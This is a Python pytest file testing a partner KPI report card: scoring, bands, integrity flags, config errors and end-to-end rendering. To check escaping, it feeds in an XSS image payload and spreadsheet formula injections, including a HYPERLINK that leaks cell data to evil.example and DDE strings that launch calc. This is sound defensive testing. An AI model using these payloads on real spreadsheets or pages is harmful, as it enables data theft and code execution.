"""The monthly report card: scoring and bands on exact inputs, the four renderings, config errors,
and end to end (events through the broker and a worker, then ``partnerpulse report``) against
month values, attainments, scores and bands computed here from the YAML files and the events."""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import math
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
import yaml
from typer.testing import CliRunner

from streams.cli import app as cli_app
from streams.config.catalog import ConfigError, load_config, load_partners
from streams.engine.core import Engine
from streams.ingest.topics import all_topics
from streams.judgement.watch import Watch
from streams.outputs.report import ReportError, build_report, fetch, month_state
from streams.outputs.report_render import render_csv, render_html, render_json, render_table, show
from streams.runtime.kafka_admin import ensure_topics
from streams.tools.broker import EmbeddedBroker
from tests import reference
from tests.harness import REPO, Worker, as_messages, poll, produce
from tests.streams_gen import DAY, random_events

CONFIG = REPO / "config"
T0 = 1_788_000_000_000  # 2026-08-29 (UTC)
PARTNERS = ["acme", "bluefiber", "northwind-telecom", "vertex-outsourcing"]


def _policy() -> dict[str, Any]:
    """The report section of partners.yaml and each KPI's min_samples, read by the test itself."""
    spec = yaml.safe_load((CONFIG / "partners.yaml").read_text())["report"]
    kpis = yaml.safe_load((CONFIG / "kpis.yaml").read_text())["kpis"]
    return {**spec, "min_samples": {k["id"]: k["min_samples"] for k in kpis},
            "ratio": {k["id"] for k in kpis if _counts_outcomes(k)},
            "better": {k["id"]: k["better"] for k in kpis}}


def _counts_outcomes(kpi: dict[str, Any]) -> bool:
    """Whether a KPI of kpis.yaml is a share of 0/1 outcomes (not a mean or percentile)."""
    statistic = kpi.get("statistic", "mean")
    if isinstance(statistic, dict):  # {within: 60}: the share of samples within a threshold
        return True
    if statistic.startswith("p"):
        return False
    return kpi["kind"] not in ("duration", "mean_field") or statistic != "mean"


def _implausibly_perfect(kpi: str, value: float, n: int, target: float,
                         policy: dict[str, Any]) -> bool:
    """A ratio at its perfect end (0 for lower-better, 1 for higher-better) that the target rate
    gives less than a 0.1% chance over n samples: not measured (README: report card)."""
    if kpi not in policy["ratio"]:
        return False
    lower = policy["better"][kpi] == "lower"
    if lower and value == 0:
        return (1 - target) ** n < 0.001
    if not lower and value == 1:
        return target ** n < 0.001
    return False


def _expected_card(partner: str, values: dict[str, tuple[float, int]],
                   policy: dict[str, Any],
                   targets: dict[tuple[str, str], float] | None = None,
                   ) -> tuple[float | None, str | None]:
    """Score and band of one partner's month, from first principles."""
    targets = targets or reference.expected_targets([partner])
    total = weights = 0.0
    floored = False
    for kpi, (value, n) in values.items():
        weight = float(policy["weights"].get(kpi, 1))
        target = targets[(partner, kpi)]
        if n < policy["min_samples"][kpi] or weight == 0:
            continue
        if _implausibly_perfect(kpi, value, n, target, policy):
            continue
        att = reference.attainment(kpi, value, target)
        total += weight * min(att, policy["attainment_cap"])
        weights += weight
        floored = floored or att < policy["floor"]
    if not weights:
        return None, None
    score = total / weights
    bands = sorted(policy["bands"], key=lambda b: -b["min_score"])
    band = next(b for b in bands if score >= b["min_score"])
    cap = next(b for b in bands if b["id"] == policy["floor_band"])
    if floored and band["min_score"] > cap["min_score"]:
        band = cap
    return score, band["id"]


# --- scoring on exact inputs ---------------------------------------------------------------
def test_a_ratio_month_with_more_ones_than_samples_is_carded_and_ranked() -> None:
    """A distinct ratio counts each side at its own event: a month can hold tickets reopened in
    it and resolved the month before (2 reopenings over 1 resolution: 200%). The card shows
    that value; the league ranks the month as if every sample were a 1 (its shrinkage and
    funnel are binomial), instead of refusing the whole report."""
    catalog, partners = load_config()
    n = 40
    current = {p: {"reopen_rate": (0.05, n, 0.05 * n, 0.05 * n)} for p in PARTNERS}
    current["acme"] = {"reopen_rate": (2.0, 1, 2.0, 2.0)}
    current["bluefiber"] = {"reopen_rate": (41 / 40, 40, 41.0, 41.0)}
    card = build_report(catalog, partners, "2026-10", current, {}, T0)
    lines = {c.partner: {line.kpi: line for line in c.lines} for c in card.cards}
    assert lines["acme"]["reopen_rate"].value == 2.0
    assert lines["bluefiber"]["reopen_rate"].value == 41 / 40
    assert any(f.kpi == "reopen_rate" for f in card.funnels)


def test_scores_bands_floor_and_month_over_month() -> None:
    catalog, partners = load_config()
    policy = _policy()
    current = {
        # premier: asa target 45 s -> 30 s is 150% (capped at 120%); ots_down_hard weight 2
        "northwind-telecom": {"asa": (30.0, 500), "ots_down_hard": (5400.0 * 0.9, 40),
                              "csat": (4.4, 300), "abandon_rate": (0.5, 3)},  # 3 < min_samples
        # one KPI far below the floor: the band is capped at 'standard' whatever the score
        # (score about 1.06, gold; mttr at 70% of its goal)
        "bluefiber": {"asa": (20.0, 500), "service_level": (0.95, 500), "csat": (5.0, 50),
                      "xla": (9.9, 50), "abandon_rate": (0.01, 500),
                      "mttr": (14400.0 / 0.7, 30)},
        "newcomer-9": {"asa": (200.0, 100)},  # not in partners.yaml, has data: still reported
    }
    previous = {"northwind-telecom": {"asa": (60.0, 400)}}
    card = build_report(catalog, partners, "2026-10", current, previous, T0)
    by_id = {c.partner: c for c in card.cards}
    assert card.previous_month == "2026-09"
    assert set(by_id) == set(partners.partner_tier) | {"newcomer-9"}
    for partner, values in current.items():
        score, band = _expected_card(partner, values, policy)
        got = by_id[partner]
        assert got.score is not None and score is not None
        assert math.isclose(got.score, score, rel_tol=1e-12), partner
        assert got.band is not None and got.band.id == band, partner
    assert by_id["bluefiber"].floored_by == ("mttr",)
    assert by_id["bluefiber"].score is not None and by_id["bluefiber"].score >= 1.0  # gold...
    assert by_id["bluefiber"].band is not None and by_id["bluefiber"].band.id == "standard"
    nw = {line.kpi: line for line in by_id["northwind-telecom"].lines}
    assert not nw["abandon_rate"].counted and nw["asa"].counted
    assert nw["asa"].change == -30.0 and nw["asa"].previous_attainment == 45.0 / 60.0
    assert by_id["northwind-telecom"].previous_score == pytest.approx(0.75)
    # a listed partner without data: a card with no score, every line empty
    orchid = by_id["orchid-it"]
    assert orchid.score is None and orchid.band is None
    assert all(line.value is None for line in orchid.lines)


def test_renderings_agree_and_escape() -> None:
    catalog, partners = load_config()
    names = {**partners.names, "acme": '<img src=x onerror=alert(1)> & "Acme"'}
    partners = dataclasses.replace(partners, names=names)
    current = {"acme": {"asa": (75.5, 120), "escalation_rate": (0.149, 600),
                        "mttr": (3 * 3600.0 + 65, 40)}}
    previous = {"acme": {"asa": (80.0, 100)}}
    card = build_report(catalog, partners, "2026-10", current, previous, T0)
    page = render_html(card)
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt; &amp; &quot;Acme&quot;" in page
    # self-contained: no scripts, no external resources
    assert "<script" not in page and "http://" not in page and "https://" not in page
    rows = list(csv.DictReader(io.StringIO(render_csv(card))))
    assert len(rows) == len(card.cards) * len(catalog.kpis)
    acme = {r["kpi"]: r for r in rows if r["partner"] == "acme"}
    assert float(acme["asa"]["value"]) == 75.5 and acme["asa"]["samples"] == "120"
    assert float(acme["asa"]["change"]) == -4.5 and acme["mttr"]["previous_value"] == ""
    body = orjson.loads(render_json(card))
    acme_json = next(p for p in body["partners"] if p["partner"] == "acme")
    assert acme_json["band"]["id"] == acme["asa"]["band"]
    assert math.isclose(acme_json["score"], float(acme["asa"]["score"]))
    table = render_table(card)
    assert "3h 01m" in table and "14.9%" in table and "76s" in table
    assert show(2 * 86400 + 3 * 3600.0, "seconds") == "2d 03h" and show(None, "ratio") == "-"


# what a spreadsheet would run as a formula (OWASP CSV injection), as display names and a tier
FORMULA_NAMES = {
    "acme": '=HYPERLINK("http://evil.example/?leak="&B2,"Acme")',
    "bluefiber": "+1+cmd|' /C calc'!A0",
    "northwind-telecom": "-2+3",
    "orchid-it": "@SUM(1,2)",
    "harbor-voice": "\t=1+1",
    "atlas-connect": "\r=1+1",
}
NUMBER_COLUMNS = ("value", "samples", "target", "attainment", "counted", "weight", "previous_value",
                  "previous_attainment", "change", "score", "adjustment", "previous_score")


def test_csv_text_cells_cannot_be_formulas_and_numbers_stay_numbers() -> None:
    catalog, partners = load_config()
    hostile_tier = "=cmd|' /C calc'!A0"
    partners = dataclasses.replace(
        partners, names={**partners.names, **FORMULA_NAMES},
        partner_tier={**partners.partner_tier, "keystone-wireless": hostile_tier})
    # acme answers far slower than its goal but faster than last month: a negative change and a
    # band with a negative adjustment, both of which must stay numbers
    current = {"acme": {"asa": (300.0, 500)}, "bluefiber": {"asa": (20.0, 500)}}
    previous = {"acme": {"asa": (320.0, 400)}}
    text = render_csv(build_report(catalog, partners, "2026-10", current, previous, T0))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(partners.partner_tier | current) * len(catalog.kpis)  # no row split
    by_partner = {r["partner"]: r for r in rows if r["kpi"] == "asa"}
    for partner, name in FORMULA_NAMES.items():
        assert by_partner[partner]["name"] == "'" + name, partner  # shown as the text it is
    assert by_partner["keystone-wireless"]["tier"] == "'" + hostile_tier
    assert by_partner["summit-broadband"]["name"] == "Summit Broadband"  # plain text untouched
    formula = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column in CSV_TEXT_COLUMNS:
            assert not row[column].startswith(formula), (column, row[column])
        for column in NUMBER_COLUMNS:
            if row[column] != "":
                float(row[column])  # a number, not a quoted string
    acme = by_partner["acme"]
    assert float(acme["change"]) == 300.0 - 320.0
    score, band = _expected_card("acme", {"asa": (300.0, 500)}, _policy())
    adjustments = {b["id"]: b["adjustment"] for b in _policy()["bands"]}
    assert acme["band"] == band and adjustments[band] < 0
    assert float(acme["adjustment"]) == adjustments[band]
    assert score is not None and math.isclose(float(acme["score"]), score, rel_tol=1e-12)


CSV_TEXT_COLUMNS = ("month", "partner", "name", "tier", "kpi", "title", "unit", "band",
                    "previous_band", "integrity_flags", "previous_integrity_flags", "band_withheld",
                    "band_withheld_by")


@pytest.mark.parametrize(("report", "line", "problem"), [
    ("report:\n  bands: []\n", 2, "at least one band"),
    ("report:\n  floor: 0.8\n  bands: [{id: a, min_score: 0}]\n", 2, "go together"),
    ("report:\n  floor: 0.8\n  floor_band: nope\n  bands: [{id: a, min_score: 0}]\n", 3,
     "unknown band 'nope'"),
    ("report:\n  weights: {not_a_kpi: 2}\n  bands: [{id: a, min_score: 0}]\n", 2,
     "unknown KPI 'not_a_kpi'"),
    ("report:\n  bands: [{id: a, min_score: 1}, {id: b, min_score: 0}]\n"
     "  integrity_withholds: [a, gold]\n", 3, "unknown band 'gold'"),
    ("report:\n  integrity_withholds: [b]\n  bands: [{id: a, min_score: 1}, {id: b, min_score: 0}]\n",
     2, "the lowest band 'b' cannot be withheld"),
])
def test_bad_report_section_names_file_and_line(tmp_path: Path, report: str, line: int,
                                                 problem: str) -> None:
    catalog, _ = load_config()
    path = tmp_path / "partners.yaml"
    path.write_text("version: 1\n" + report)
    with pytest.raises(ConfigError) as err:
        load_partners(path, catalog)
    assert f"partners.yaml:{line + 1}:" in str(err.value) and problem in str(err.value), err.value


def test_fetch_refuses_a_partial_report() -> None:
    def worker(owned: list[int]) -> bytes:
        return orjson.dumps({"ready": True, "partitions": 4, "owned_partitions": owned,
                             "partners": {}, "integrity": {}, "month": "2026-10"})

    answers = {"http://a/api/report?month=2026-10": worker([0, 1]),
               "http://b/api/report?month=2026-10": worker([2, 3])}
    # values, previous values, flags, previous flags, closings, evidence: all empty
    assert tuple(fetch(["http://a", "http://b"], "2026-10", 4, answers.__getitem__)) == (
        {}, {}, {}, {}, {}, {})
    with pytest.raises(ReportError, match=r"partitions \[2, 3\]"):
        fetch(["http://a"], "2026-10", 4, answers.__getitem__)
    # a worker that does not say which flags it holds could get a withheld band paid
    old = orjson.dumps({"ready": True, "partitions": 4, "owned_partitions": [0, 1, 2, 3],
                        "partners": {}, "month": "2026-10"})
    with pytest.raises(ReportError, match="integrity flags"):
        fetch(["http://old"], "2026-10", 4, lambda _: old)


# --- integrity flags on the card ------------------------------------------------------------------
WITHHOLDS = ["platinum", "gold"]


def _withholding_config(tmp_path: Path, withholds: str = "[platinum, gold]") -> Path:
    """The shipped config with the commented ``integrity_withholds`` line of partners.yaml set."""
    config = tmp_path / "config"
    shutil.copytree(CONFIG, config)
    path = config / "partners.yaml"
    text = path.read_text()
    line = "  # integrity_withholds: [platinum, gold]\n"
    assert text.count(line) == 1  # shipped commented out: nothing withheld by default
    path.write_text(text.replace(line, f"  integrity_withholds: {withholds}\n"))
    return config


def _expected_band(earned: str | None, flagged: bool, policy: dict[str, Any]) -> str | None:
    """The band given: the earned one, or for a flagged partner the best band at or below it
    that integrity_withholds does not list (first principles, from the YAML)."""
    withheld = set(policy.get("integrity_withholds", []))
    if earned is None or not flagged or earned not in withheld:
        return earned
    bands = sorted(policy["bands"], key=lambda b: -b["min_score"])
    at = next(i for i, b in enumerate(bands) if b["id"] == earned)
    return next(b["id"] for b in bands[at:] if b["id"] not in withheld)


HOSTILE_FLAG = ("=HYPERLINK(\"http://evil.example\")", '<img src=x onerror=alert(1)>')


def test_integrity_flags_on_every_format_and_withheld_bands(tmp_path: Path) -> None:
    config = _withholding_config(tmp_path)
    catalog, partners = load_config(config)
    policy = {**_policy(), **yaml.safe_load((config / "partners.yaml").read_text())["report"]}
    assert policy["integrity_withholds"] == WITHHOLDS
    current = {
        # premier (asa target 45 s, csat 4.4): asa 30 s is 150% (capped 120%), csat 5.0 is 114%
        "bluefiber": {"asa": (30.0, 500), "csat": (5.0, 300)},        # platinum, flagged
        "atlas-connect": {"asa": (45.0, 500), "csat": (4.6, 300)},    # gold, flagged
        "northwind-telecom": {"asa": (30.0, 500), "csat": (5.0, 300)},  # platinum, flagged last month
        "cedar-networks": {"asa": (75.0, 500)},                     # business: 60/75 = 80%, watch
    }
    previous = {"northwind-telecom": {"asa": (45.0, 500), "csat": (4.6, 300)}}  # gold
    esc = ("escalation_rate", "threshold_hugging")
    flags = {"bluefiber": [esc, ("mttr", "deadline_bunching")], "atlas-connect": [esc],
             "cedar-networks": [("asa", "deadline_bunching")], "orchid-it": [HOSTILE_FLAG]}
    flags_before = {"northwind-telecom": [esc]}
    card = build_report(catalog, partners, "2026-10", current, previous, T0, flags, flags_before)
    by_id = {c.partner: c for c in card.cards}
    earned = {p: _expected_card(p, v, policy)[1] for p, v in current.items()}
    # the premises, from the test's own arithmetic: two bonus bands earned by flagged partners
    assert earned == {"bluefiber": "platinum", "atlas-connect": "gold",
                      "northwind-telecom": "platinum", "cedar-networks": "watch"}
    want = {p: _expected_band(earned[p], bool(flags.get(p)), policy) for p in current}
    assert want == {"bluefiber": "standard", "atlas-connect": "standard",
                    "northwind-telecom": "platinum", "cedar-networks": "watch"}
    prev_earned = _expected_card("northwind-telecom", previous["northwind-telecom"], policy)[1]
    assert prev_earned == "gold"
    for partner, band in want.items():
        got = by_id[partner]
        assert got.band is not None and got.band.id == band, partner
        withheld = band != earned[partner]
        assert (got.withheld_band.id if got.withheld_band else None) == (
            earned[partner] if withheld else None), partner
        said = tuple(f"{k}: {s}" for k, s in sorted(flags.get(partner, []))) if withheld else ()
        assert got.band_withheld_by == said, partner
        assert got.integrity == tuple(sorted(flags.get(partner, []))), partner
    # a flag in the previous month only: this month's platinum stands, last month's gold did not
    nw = by_id["northwind-telecom"]
    assert nw.integrity == () and nw.previous_integrity == (esc,)
    assert nw.previous_band is not None
    assert nw.previous_band.id == _expected_band(prev_earned, True, policy) == "standard"
    assert by_id["orchid-it"].score is None and by_id["orchid-it"].integrity == (HOSTILE_FLAG,)

    # JSON
    cards = {c["partner"]: c for c in orjson.loads(render_json(card))["partners"]}
    bf = cards["bluefiber"]
    assert bf["integrity"] == [{"kpi": "escalation_rate", "signal": "threshold_hugging"},
                               {"kpi": "mttr", "signal": "deadline_bunching"}]
    assert bf["band"]["id"] == "standard" and bf["withheld_band"]["id"] == "platinum"
    assert bf["band_withheld_by"] == ["escalation_rate: threshold_hugging",
                                      "mttr: deadline_bunching"]
    assert cards["northwind-telecom"]["integrity"] == []
    assert cards["northwind-telecom"]["previous_integrity"] == [
        {"kpi": "escalation_rate", "signal": "threshold_hugging"}]
    assert cards["northwind-telecom"]["withheld_band"] is None
    assert cards["summit-broadband"]["integrity"] == []

    # CSV: on every row of the partner, text neutralised like every other text cell
    rows = list(csv.DictReader(io.StringIO(render_csv(card), newline="")))
    assert len(rows) == len(card.cards) * len(catalog.kpis)
    by_partner: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_partner.setdefault(row["partner"], []).append(row)
    for row in by_partner["bluefiber"]:
        assert row["integrity_flags"] == ("escalation_rate: threshold_hugging, "
                                          "mttr: deadline_bunching")
        assert row["band"] == "standard" and row["band_withheld"] == "platinum"
        assert row["band_withheld_by"] == row["integrity_flags"]
        assert row["previous_integrity_flags"] == "none"
    nw_row = by_partner["northwind-telecom"][0]
    assert nw_row["integrity_flags"] == "none" and nw_row["band"] == "platinum"
    assert nw_row["previous_integrity_flags"] == "escalation_rate: threshold_hugging"
    assert nw_row["band_withheld"] == "" and nw_row["band_withheld_by"] == ""
    cedar = by_partner["cedar-networks"][0]
    assert cedar["integrity_flags"] == "asa: deadline_bunching" and cedar["band_withheld"] == ""
    assert by_partner["orchid-it"][0]["integrity_flags"] == "'" + ": ".join(HOSTILE_FLAG)
    for row in rows:
        for column in CSV_TEXT_COLUMNS:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row)

    # the text table: a summary column and a line under the partner's heading
    table = render_table(card)
    summary = table.split("\n\n")[1].splitlines()
    assert summary[0].split()[-2:] == ["integrity", "flags"]
    row = next(r for r in summary if r.startswith("BlueFiber "))
    assert row.endswith("escalation_rate: threshold_hugging, mttr: deadline_bunching "
                        "(platinum withheld)")
    assert " standard " in row
    assert next(r for r in summary if r.startswith("Cedar Networks ")).endswith(
        " asa: deadline_bunching")  # flagged, its band not withheld
    assert next(r for r in summary if r.startswith("Harbor Voice ")).endswith(" none")
    assert ("integrity flags 2026-10: escalation_rate: threshold_hugging, mttr: deadline_bunching "
            "(band platinum withheld for them); 2026-09: none\n") in table
    assert ("integrity flags 2026-10: none; 2026-09: escalation_rate: threshold_hugging\n"
            in table)

    # HTML: the summary column and the card's sentence, escaped
    page = render_html(card)
    assert "<th>Integrity flags</th>" in page
    assert ("Integrity flags this month: <span class=\"flag\">escalation_rate: threshold_hugging, "
            "mttr: deadline_bunching</span> (band <strong>Platinum: 5% margin bonus</strong> "
            "withheld for them); 2026-09: none.") in page
    assert ("<td class=\"flag\">escalation_rate: threshold_hugging, mttr: deadline_bunching "
            "(platinum withheld)</td>") in page
    assert html.escape(": ".join(HOSTILE_FLAG)) in page and "<img" not in page
    assert page.count('<td class="muted">none</td>') == len(card.cards) - len(flags)


def test_worker_serves_the_lens_flags_and_the_card_withholds_on_them(tmp_path: Path) -> None:
    """month_state with the lens's raised_in (as the view passes it) -> fetch -> build_report."""
    catalog, partners = load_config(_withholding_config(tmp_path, "[gold]"))
    engine = Engine(catalog, partners, clock="event")
    watch = Watch(engine)
    esc, bunch = ("escalation_rate", "threshold_hugging"), ("asa", "deadline_bunching")
    # what the lens records as flags are raised (month in the report time zone)
    watch.lens.raised = {"atlas-connect": {"2026-10": {esc, bunch}, "2026-09": {bunch}},
                         "bluefiber": {"2026-09": {esc}, "2026-08": {bunch}}}
    owned = ["atlas-connect", "bluefiber", "cedar-networks"]
    state = month_state(engine, owned, "2026-10", watch.lens.raised_in)
    assert state["integrity"] == {
        "atlas-connect": {"2026-10": [list(bunch), list(esc)], "2026-09": [list(bunch)]},
        "bluefiber": {"2026-09": [list(esc)]}}  # August is neither month: not served
    assert month_state(engine, owned, "2026-10")["integrity"] == {}  # the old call still works
    # the worker's answer, with month values the engine would hold for the two partners
    state["partners"] = {"atlas-connect": {"2026-10": {"asa": [45.0, 500], "csat": [4.6, 300]}},
                         "bluefiber": {"2026-10": {"asa": [45.0, 500], "csat": [4.6, 300]}}}
    body = orjson.dumps({**state, "ready": True, "partitions": 1, "owned_partitions": [0]})
    got = fetch(["http://w"], "2026-10", 1, lambda _: body)
    assert got.integrity == {"atlas-connect": (bunch, esc)}
    assert got.previous_integrity == {"atlas-connect": (bunch,), "bluefiber": (esc,)}
    card = build_report(catalog, partners, "2026-10", got.current, got.previous, T0,
                        got.integrity, got.previous_integrity)
    by_id = {c.partner: c for c in card.cards}
    policy = {**_policy(), "integrity_withholds": ["gold"]}
    values = {"asa": (45.0, 500), "csat": (4.6, 300)}
    earned = _expected_card("atlas-connect", values, policy)[1]
    assert earned == "gold" == _expected_card("bluefiber", values, policy)[1]
    # gold withheld: the next band down that is not withheld; bluefiber's flag was last month
    assert _expected_band(earned, True, policy) == "standard"
    assert [by_id[p].band.id for p in ("atlas-connect", "bluefiber")  # type: ignore[union-attr]
            ] == ["standard", "gold"]
    assert by_id["atlas-connect"].band_withheld_by == ("asa: deadline_bunching",
                                                       "escalation_rate: threshold_hugging")


def test_check_config_names_an_unknown_withheld_band(tmp_path: Path) -> None:
    config = _withholding_config(tmp_path, "[platinum, golden]")
    result = CliRunner().invoke(cli_app, ["check-config", "--config", str(config)])
    assert result.exit_code == 1
    line = next(i for i, row in enumerate((config / "partners.yaml").read_text().splitlines(), 1)
                if row.strip().startswith("integrity_withholds:"))
    text = "".join(result.output.split())  # the console wraps long lines
    assert f"partners.yaml:{line}:" in text and "unknownband'golden'" in text, result.output
    # the shipped line, uncommented, is valid
    _, partners = load_config(_withholding_config(tmp_path / "ok"))
    assert partners.report.integrity_withholds == frozenset(WITHHOLDS)


# --- end to end ---------------------------------------------------------------------------
@pytest.fixture
def fresh_broker(tmp_path: Path) -> Iterator[EmbeddedBroker]:
    with EmbeddedBroker(log_path=tmp_path / "broker.log") as running:
        ensure_topics(running.bootstrap, all_topics(4))
        yield running


def _report(worker: Worker, month: str, fmt: str, *extra: str) -> subprocess.CompletedProcess[str]:
    return _cli(worker, "--month", month, "--format", fmt, *extra)


def _cli(worker: Worker, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "streams", "report", *args,
         "--worker", f"http://127.0.0.1:{worker.port}", "--partitions", "4"],
        capture_output=True, text=True, timeout=60, cwd=REPO, check=False)


DATED_ASA = {"2026-08": 45.0, "2026-09": 20.0}
"""northwind-telecom (premier) in the dated copy of partners.yaml: its own asa target, tightened
from 45 s to 20 s in September."""


def _dated_config(tmp_path: Path) -> Path:
    """The default config with northwind-telecom's asa target dated (DATED_ASA)."""
    out = tmp_path / "dated"
    out.mkdir()
    shutil.copy(CONFIG / "kpis.yaml", out / "kpis.yaml")
    text = (CONFIG / "partners.yaml").read_text()
    line = "  - {id: northwind-telecom, tier: premier, name: Northwind Telecom}"
    assert line in text
    dated = ("  - id: northwind-telecom\n    tier: premier\n    name: Northwind Telecom\n"
             "    targets:\n      asa: [{value: 45}, {value: 20, effective: 2026-09}]")
    (out / "partners.yaml").write_text(text.replace(line, dated))
    return out


@pytest.mark.slow
def test_report_from_a_worker_matches_the_events(fresh_broker: EmbeddedBroker,
                                                  tmp_path: Path) -> None:
    # 24 days of starts from 2026-08-29: August's end and most of September. Lifecycles run on
    # up to five days, so each partner's events span under 29 days: inside the 30-day horizon,
    # nothing is late whatever order the worker reads its partitions and the repartition topic
    # in (as_messages refuses a longer span: 28 days made one run in many lose a call as late)
    events = random_events(11, PARTNERS, T0, 24 * DAY, n_tickets=120, n_calls=200)
    worker = Worker(fresh_broker.url, tmp_path).start()
    try:
        n = produce(fresh_broker.bootstrap, as_messages(events))
        poll(lambda: worker.processed() >= n, 120, f"{n} events processed")
        done = _report(worker, "2026-09", "json")
        html_out = tmp_path / "card.html"
        printed = _report(worker, "2026-09", "html", "--output", str(html_out))
        one = _report(worker, "2026-09", "csv", "--partner", "acme")
        bad = _report(worker, "2026-13", "json")
        quarter = _cli(worker, "--quarter", "2026-Q3", "--format", "json")
        aug = _report(worker, "2026-08", "json")
        dated_dir = _dated_config(tmp_path)
        dated = {m: _report(worker, m, "json", "--config", str(dated_dir)) for m in DATED_ASA}
    finally:
        worker.stop()
    assert done.returncode == 0, done.stderr
    body = orjson.loads(done.stdout)
    assert body["month"] == "2026-09" and body["previous_month"] == "2026-08"
    months = reference.compute_months(events)
    channel_months = reference.compute_channel_months(events)
    targets = reference.expected_targets(PARTNERS)
    policy = _policy()
    cards = {c["partner"]: c for c in body["partners"]}
    assert aug.returncode == 0, aug.stderr
    aug_cards = {c["partner"]: c for c in orjson.loads(aug.stdout)["partners"]}
    checked = 0
    for partner in PARTNERS:
        want = {k: (r.value, r.samples) for (p, k, m), r in months.items()
                if p == partner and m == "2026-09"}
        before = {k: r.value for (p, k, m), r in months.items() if p == partner and m == "2026-08"}
        lines = {line["kpi"]: line for line in cards[partner]["lines"]}
        got = {k: (line["value"], line["samples"]) for k, line in lines.items()
               if line["value"] is not None}
        assert set(got) == set(want), (partner, sorted(set(got) ^ set(want)))
        for kpi, (value, samples) in want.items():
            tolerance = 0.01 if kpi.endswith("_p90") else 1e-9
            assert got[kpi][1] == samples, (partner, kpi)
            assert math.isclose(got[kpi][0], value, rel_tol=tolerance), (partner, kpi)
            line = lines[kpi]
            assert line["target"] == targets[(partner, kpi)]
            assert math.isclose(line["attainment"], min(policy["attainment_cap"], reference.attainment(
                kpi, line["value"], line["target"])), rel_tol=1e-12)
            checked += 1
        # August closed on September 6th (5 days' grace): the card's previous month is the
        # frozen August, and frozen values plus the restatements since (samples dated in
        # August that came later: a ticket opened on the 30th, first contacted on the 8th)
        # reconcile to every August event
        august = aug_cards[partner]
        assert august["status"] in ("closed", "restated"), partner
        frozen = {x["kpi"]: x["value"] for x in august["lines"] if x["value"] is not None}
        assert {k: x["previous"] for k, x in lines.items() if x["previous"] is not None} == frozen
        latest: dict[str, float | None] = dict(frozen)
        for r in august["closing"]["restatements"]:
            if "@" not in r["kpi"]:  # a by-channel value ('mttr@chat') restates its table
                latest[r["kpi"]] = r["new_value"]
        latest = {k: v for k, v in latest.items() if v is not None}
        assert set(latest) == set(before), (partner, sorted(set(latest) ^ set(before)))
        for kpi, value in before.items():
            assert math.isclose(latest[kpi] or 0.0, value, rel_tol=0.01 if kpi.endswith("_p90")
                                else 1e-9, abs_tol=1e-12), (partner, kpi)
        score, band = _expected_card(partner, {k: (lines[k]["value"], v[1])
                                               for k, v in want.items()}, policy)
        assert cards[partner]["score"] == pytest.approx(score, rel=1e-12)
        assert (cards[partner]["band"] or {}).get("id") == band
        # the per-channel table: each by-channel KPI's month among each channel's tickets
        want_channels = {(k, c): (r.value, r.samples)
                         for (p, k, m, c), r in channel_months.items()
                         if p == partner and m == "2026-09"}
        got_channels = {(line["kpi"], line["channel"]): (line["value"], line["samples"])
                        for line in cards[partner]["channels"]}
        assert set(got_channels) == set(want_channels), partner
        for (kpi, channel), (value, samples) in want_channels.items():
            tolerance = 0.01 if kpi.endswith("_p90") else 1e-9
            assert got_channels[(kpi, channel)][1] == samples, (partner, kpi, channel)
            assert math.isclose(got_channels[(kpi, channel)][0], value, rel_tol=tolerance)
            checked += 1
    assert checked >= 40 + 3 * 12
    assert printed.returncode == 0, printed.stderr
    page = html_out.read_text()
    assert all(partner in page for partner in PARTNERS) and "2026-09" in page
    assert page.count('<table class="channels">') == len(PARTNERS)
    assert bad.returncode == 1 and "not a month" in bad.stderr
    assert one.returncode == 0, one.stderr
    # the quarter: July (no events), August's last 3 days, September; the period's values are
    # the samples of its months together, each month's band the monthly card's
    assert quarter.returncode == 0, quarter.stderr
    q3 = orjson.loads(quarter.stdout)
    assert q3["months"] == ["2026-07", "2026-08", "2026-09"]
    whole = reference.compute_groups(events, lambda m: "Q3" if m.startswith("2026-0") else None)
    for partner_card in q3["partners"]:
        partner = partner_card["partner"]
        if partner not in PARTNERS:
            continue
        for line in partner_card["lines"]:
            want = whole.get((partner, line["kpi"], "Q3"))
            assert (line["value"] is None) == (want is None), (partner, line["kpi"])
            if want is not None:
                assert line["samples"] == want.samples, (partner, line["kpi"])
                assert math.isclose(line["value"], want.value, rel_tol=0.01
                                    if line["kpi"].endswith("_p90") else 1e-9), (partner, line)
        assert partner_card["bands"][2] == (cards[partner]["band"] or {}).get("id")
    # terms as they were: the dated copy scores August and September each by its own target
    for month, target in DATED_ASA.items():
        assert dated[month].returncode == 0, dated[month].stderr
        nw = next(c for c in orjson.loads(dated[month].stdout)["partners"]
                  if c["partner"] == "northwind-telecom")
        asa = next(line for line in nw["lines"] if line["kpi"] == "asa")
        assert asa["target"] == target
        assert asa["target_source"] == ("partner since 2026-09" if month == "2026-09"
                                        else "partner")
        # the month as the card shows it (August frozen at its close; checked above)
        values = {x["kpi"]: (x["value"], x["samples"]) for x in nw["lines"]
                  if x["value"] is not None}
        own = {**reference.expected_targets(["northwind-telecom"]),
               ("northwind-telecom", "asa"): target}
        score, band = _expected_card("northwind-telecom", values, policy, own)
        assert nw["score"] == pytest.approx(score, rel=1e-12)
        assert (nw["band"] or {}).get("id") == band
    assert {r["partner"] for r in csv.DictReader(io.StringIO(one.stdout))} == {"acme"}
